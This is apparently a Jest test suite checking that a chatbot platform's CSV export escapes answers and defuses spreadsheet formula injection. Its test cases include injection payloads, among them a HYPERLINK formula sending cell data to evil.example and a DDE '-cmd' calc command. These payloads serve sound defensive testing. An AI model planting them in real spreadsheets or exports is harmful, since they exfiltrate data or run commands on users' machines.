import { afterAll, beforeAll, expect, test } from '@jest/globals'
import { parse } from 'csv-parse/sync'
import { type App, startApp } from '../support/app.ts'
import { ask, bot, text } from '../support/chat.ts'
import { type Published, publish, reply, reportOf, start, storable } from '../support/chats.ts'
import { anyBody } from '../support/client.ts'
import fc from '../support/fast-check.ts'
import { runs } from '../support/runs.ts'
import { makeWorld, type Site } from '../support/world.ts'

/* What people answer comes out of the CSV as it went in, whatever it is, and runs in no spreadsheet. */

let app: App
let here: Site

beforeAll(async () => {
  app = await startApp()
  here = (await makeWorld(app)).here
})

afterAll(() => app.stop())

const flow = bot({ Start: [text('Say two things.'), ask('One'), ask('Two')] }, { variables: ['One', 'Two'] })

async function answer(made: Published, one: string, two?: string): Promise<string> {
  const { sessionId, resultId = '' } = await start(app, made)
  await reply(app, sessionId, one, 1)
  if (two !== undefined) await reply(app, sessionId, two, 2)
  return resultId
}

/** The lines as another program reads them, which refuses what RFC 4180 does not allow. */
async function linesOf(made: Published): Promise<Record<string, string>[]> {
  const { csv } = await reportOf(app, made, here.member)
  expect(csv.endsWith('\r\n')).toBe(true)
  return parse(csv, { columns: true, record_delimiter: '\r\n' })
}

/** Each part that a spreadsheet would take for a cell with a formula is told from it by a quote. */
const guarded = (value: string) => {
  const parts = value.replaceAll(/[^;,\t\r\n]+/g, (part) => (isFormula(part) ? `'${part}` : part))
  return /^[\t\r]/.test(value) ? `'${parts}` : parts
}

const isFormula = (part: string) =>
  /^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u.test(part) && !harmless.has(part) && !/^\s*[+-][\d .()]*$/.test(part)

const harmless = new Set([
  '+33612345678',
  '+33 6 12 34 56 78',
  '+1 (555) 123-4567',
  '+44 20-7946-0958',
  '-5',
  '-3,5',
])

test.each([
  ['a comma', 'a,b'],
  ['quotes', 'say "hi", ""'],
  ['line breaks', 'one\ntwo\r\nthree\rfour'],
  ['emoji and scripts', '👩‍👩‍👧 ünï 日本 עברית'],
  ['white space around', '  kept  '],
  ['a semicolon and a tab inside', 'a;b\tc'],
  ['a formula', '=HYPERLINK("http://evil.example?x="&A1,"click")'],
  ['a sum', '+1+1'],
  ['a minus', '-2+3'],
  ['a phone number', '+33612345678'],
  ['a phone number with spaces', '+33 6 12 34 56 78'],
  ['a phone number with an area', '+1 (555) 123-4567'],
  ['a phone number with spaces and dashes', '+44 20-7946-0958'],
  ['what looks like a phone number and is a sum', '+1-202-555-0143'],
  ['a sum in parentheses', '+(1)-(2)'],
  ['a formula behind a phone number', '+33612345678+HYPERLINK("http://evil.example")'],
  ['a command behind a sign', "-cmd|' /C calc'!A0"],
  ['a cell behind a phone number', '+33 6 (12)-A1'],
  ['a wide sign and a number', '＋33612345678'],
  ['a negative number', '-5'],
  ['a negative number with a comma', '-3,5'],
  ['a dash', '-'],
  ['an at', '@SUM(A1)'],
  ['a formula behind a tab', '\t=1+1'],
  ['a formula behind a line break', '\r=1+1'],
  ['a formula behind a line feed in the middle', 'x\n=1+1'],
  ['a formula behind a semicolon', 'x;=1+1'],
  ['a link behind a semicolon', ';=HYPERLINK(1)'],
  ['a formula behind a blank', ' =1+1'],
  ['a formula behind an invisible character', '\u200b=1+1'],
  ['a wide equals sign', '＝1+1'],
  ['a harmless quote', "'quoted'"],
])('%s', async (_, value) => {
  const made = await publish(app, here, flow)
  const resultId = await answer(made, value)
  const [line] = await linesOf(made)
  expect(line).toMatchObject({ Result: resultId, Completed: 'false', One: guarded(value), Two: '' })
  // Elsewhere it is what was said.
  const { results } = await reportOf(app, made, here.member)
  expect(results[0]?.answers[0]?.content).toBe(value)
})

test('any texts, line by line', async () => {
  const anything = fc
    .string({
      unit: fc.constantFrom('a', ',', '"', '\n', '\r', '\t', ' ', '=', '-', "'", '😀', 'é', '\\'),
      minLength: 1,
    })
    .filter((value) => value !== '')
  const some = fc.array(fc.tuple(anything, fc.option(anything, { nil: undefined })), {
    minLength: 1,
    maxLength: 8,
  })
  await fc.assert(
    fc.asyncProperty(some, async (people) => {
      const made = await publish(app, here, flow)
      const expected: Record<string, string>[] = []
      for (const [one, two] of people) {
        const Result = await answer(made, one, two)
        const Completed = String(two !== undefined)
        expected.unshift({ Result, Completed, One: guarded(one), Two: guarded(two ?? '') })
      }
      const lines = await linesOf(made)
      expect(lines.map(({ 'Submitted at': _, ...line }) => line)).toEqual(expected)
    }),
    { numRuns: runs(5, 30) },
  )
})

test('the names of the columns are texts of people too', async () => {
  const names = ['=1+1', 'a,"b"', 'Result', 'line\nbreak']
  const asking = bot({ Start: names.map((name) => ask(name)) }, { variables: names })
  const made = await publish(app, here, asking)
  const { sessionId } = await start(app, made)
  for (const [index, name] of names.entries()) await reply(app, sessionId, `about ${name}`, index + 1)
  const [line] = await linesOf(made)
  expect(Object.keys(line ?? {})).toEqual([
    'Result',
    'Submitted at',
    'Completed',
    "'=1+1",
    'a,"b"',
    'Result (1)',
    'line\nbreak',
  ])
})

test('blocks that are gone keep their column, and unanswered results are left out', async () => {
  const made = await publish(app, here, flow)
  await answer(made, 'kept', 'gone')
  await start(app, made)
  const { groups } = storable(bot({ Start: [text('Say one thing.'), ask('One')] }))
  await app.client.ok('updateBot', {
    as: here.member,
    params: { botId: made.id },
    body: anyBody({ bot: { version: '6.1', groups } }),
  })
  const lines = await linesOf(made)
  expect(lines).toHaveLength(1)
  expect(lines[0]).toMatchObject({ One: 'kept', 'Deleted block Start.2': 'gone', Two: 'gone' })
})

test('a bot without results has the names alone', async () => {
  const made = await publish(app, here, flow)
  expect((await reportOf(app, made, here.member)).csv).toBe('Result,Submitted at,Completed,One,Two\r\n')
})

test('a caller who goes away in the middle leaves nothing open', async () => {
  const made = await publish(app, here, flow)
  await app.pool.query(
    `INSERT INTO results (bot_id, id, variables, has_started, is_completed, is_archived, created_at, updated_at)
     SELECT $1, 'r' || n, $2, true, false, false, $3::timestamptz - n * interval '1 second', $3
     FROM generate_series(1, 20000) n`,
    [made.id, JSON.stringify([{ id: 'v-One', name: 'One', value: 'x'.repeat(500) }]), '2026-03-10T00:00:00Z'],
  )
  const going = new AbortController()
  const response = await fetch(`${app.url}/v1/bots/${made.id}/resultsExport`, {
    headers: { authorization: `Bearer ${here.member.token}` },
    signal: going.signal,
  })
  await response.body?.getReader().read()
  going.abort()
  // All connections of the pool are free again.
  await Promise.all(
    Array.from({ length: 20 }, () => reportOf(app, { ...made, id: here.draft.id }, here.member)),
  )
  expect(app.logs.filter(({ msg }) => msg === 'request failed')).toEqual([])
  const whole = await app.client.call('exportResults', { as: here.member, params: { botId: made.id } })
  expect(whole.text.split('\r\n')).toHaveLength(20_002)
})
